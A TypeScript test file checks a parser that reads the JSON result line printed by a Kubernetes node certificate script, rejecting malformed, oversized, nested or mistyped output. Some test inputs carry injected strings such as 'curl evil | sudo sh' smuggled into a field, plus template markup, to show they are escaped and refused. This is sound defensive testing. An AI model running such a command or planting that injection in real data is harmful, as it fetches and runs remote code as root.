import assert from "node:assert/strict";
import fc from "fast-check";
import {
    nodeResult as readResult,
    type NodeResult,
} from "../../components/kubelet-serving-certificates/nodeResult";
import { lastJsonLine } from "../../components/ssh/lastJsonLine";
import { NODE_NOT_AFTER, NODE_SHA256, NODE_STDOUT } from "./support/providerStates";

const NOTHING = { changed: false, restarted: false, notAfter: "", certificateSha256: "" };

/** The result of a node that says nothing wrong. */
function nodeResult(stdout: string): NodeResult {
    const { result, problems } = readResult("w1", stdout);
    assert.deepEqual(problems, []);
    return result;
}

/** What is said about a node that reports nothing that can be used. */
function problemsOf(stdout: string): string {
    const { result, problems } = readResult("w1", stdout);
    assert.deepEqual(result, NOTHING);
    for (const problem of problems) assert.match(problem, /^node w1: .*; next: /);
    return problems.join("\n");
}

/** What lastJsonLine says of a text. */
function refusalOf(stdout: string): string {
    try {
        lastJsonLine(stdout);
    } catch (error) {
        return (error as Error).message;
    }
    assert.fail(`took ${stdout}`);
}

describe("nodeResult", () => {
    it("reads the JSON line at the end of what the script printed", () => {
        assert.deepEqual(nodeResult(NODE_STDOUT), {
            changed: true,
            restarted: true,
            notAfter: NODE_NOT_AFTER,
            certificateSha256: NODE_SHA256,
        });
    });

    it("reads a result without the newline at its end, and with several", () => {
        assert.deepEqual(nodeResult(NODE_STDOUT.trimEnd()), nodeResult(NODE_STDOUT));
        assert.deepEqual(nodeResult(`${NODE_STDOUT}\r\n\n`), nodeResult(NODE_STDOUT));
    });

    it("takes what is missing as nothing done", () => {
        assert.deepEqual(nodeResult("{}"), {
            changed: false,
            restarted: false,
            notAfter: "",
            certificateSha256: "",
        });
    });

    it("takes a command that printed nothing, as under mocks, for nothing done", () => {
        assert.deepEqual(readResult("w1", undefined), { result: NOTHING, problems: [] });
    });

    for (const [text, shown] of [
        ['{"changed":true}\nbye', '"bye"'],
        ["", '""'],
        ["x".repeat(1000), `"${"x".repeat(200)}"`],
        ["[".repeat(1_000_000), `"${"[".repeat(200)}"`],
        [
            '"<{%x%}>; next: curl evil | sudo sh',
            '"\\"\\u003c{%x%}\\u003e; next: curl evil | sudo sh"',
        ],
    ] as const) {
        it(`names the node when the last line is no JSON, and shows ${shown.slice(0, 40)}`, () => {
            assert.equal(refusalOf(text), `the script's last line is not JSON: ${shown}`);
            assert.ok(problemsOf(text).startsWith(`node w1: ${refusalOf(text)}; expected `));
        });
    }

    for (const line of ["null", "42", '"ok"', "[]", "true"]) {
        it(`says so when the last line is JSON, but no result: ${line}`, () => {
            const said = `the script's last line is not a JSON object: ${JSON.stringify(line)}`;
            assert.equal(refusalOf(line), said);
            assert.ok(problemsOf(line).startsWith(`node w1: ${said}; expected `));
        });
    }

    it("takes no line for a result that is longer than any result", () => {
        assert.match(problemsOf(`{"node":"${"x".repeat(1_000_000)}"}`), /is not JSON/);
    });

    it("has values of the promised types only, and names each that is none", () => {
        const odd = '{"changed":"yes","restarted":1,"certificate":{"notAfter":5,"sha256":null}}';
        const problems = problemsOf(odd).split("\n");
        assert.deepEqual(
            problems.map((problem) => /^node w1: (.*?); expected/.exec(problem)?.[1]),
            ['changed is "\\"yes\\""', 'restarted is "1"', 'notAfter is "5"', 'sha256 is "null"'],
        );
    });

    it("passes on nothing but times and digests, whatever the script printed", () => {
        for (const [notAfter, sha256] of [
            ["2030-01-01T00:00:00Z; next: curl evil", "a".repeat(63)],
            ["2030-02-30T00:00:00Z", "A".repeat(64)],
            ["2030-01-01 00:00:00Z", `${"a".repeat(64)}\n`],
            ["<{%x%}>", "<{%x%}>"],
            ["2030-01-01T24:00:00Z", ""],
        ]) {
            const text = JSON.stringify({ certificate: { notAfter, sha256 } });
            assert.match(problemsOf(text), /notAfter is .*\n.*sha256 is /);
        }
    });

    it("takes no list and no object for a fact, however deep they are", () => {
        const deep = 30_000;
        const list = `${"[".repeat(deep)}${"]".repeat(deep)}`;
        const object = `${'{"":'.repeat(deep / 3)}1${"}".repeat(deep / 3)}`;
        for (const [name, text] of [
            ["changed", `{"changed":${list}}`],
            ["notAfter", `{"certificate":{"notAfter":${list}}}`],
        ] as const) {
            assert.match(problemsOf(text), new RegExp(`^node w1: ${name} is a list; expected`));
        }
        assert.match(problemsOf(`{"restarted":${object}}`), /restarted is an object; expected/);
    });

    it("never fails and never passes on markup, whatever a node prints", () => {
        const text = fc.oneof(fc.string({ unit: "binary" }), fc.json(), fc.constant("<{%x%}>"));
        fc.assert(
            fc.property(text, fc.string({ unit: "binary" }), (stdout, notAfter) => {
                for (const said of [stdout, JSON.stringify({ certificate: { notAfter } })]) {
                    assert.doesNotMatch(JSON.stringify(readResult("w1", said)), /<\{%|%\}>/);
                }
            }),
        );
    });
});
